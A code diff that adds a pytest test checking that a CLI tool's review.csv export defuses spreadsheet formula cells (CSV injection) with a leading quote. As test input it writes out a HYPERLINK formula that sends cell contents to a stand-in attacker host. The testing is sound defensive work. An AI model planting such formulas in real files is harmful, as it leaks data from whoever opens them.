@@ -75,3 +75,29 @@ def test_write_reports_refuses_an_unknown_language_before_writing(tmp_path):
     with pytest.raises(UsageError):
         write_reports(two_percent_result(), tmp_path / "out", "fr")
     assert not (tmp_path / "out").exists()
+
+
+def test_review_csv_neutralizes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
+    """Issue 11 item 8: auditors open review.csv in Excel; a cell starting with = + - @ tab or CR
+    is a formula there (OWASP "CSV Injection"), so it gets a leading quote."""
+    import csv
+
+    from click.testing import CliRunner
+
+    from screen.cli.main import main
+
+    call = tmp_path / "call.txt"
+    call.write_text('=HYPERLINK("http://evil.example/?"&A1,"点这里")', encoding="utf-8")
+    calls = tmp_path / "calls.jsonl"
+    calls.write_text('{"id": "@SUM(A1)", "text": "您好"}\n{"id": "-2+3", "text": "\\t=1+1"}\n', encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(
+        main, ["spotcheck", str(call), str(calls), "--sample", "3", "--seed", "1", "--out-dir", str(out)]
+    )
+    assert result.exit_code == 0, result.output
+    with (out / "review.csv").open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert {"'@SUM(A1)", "'-2+3"} <= set(cells)
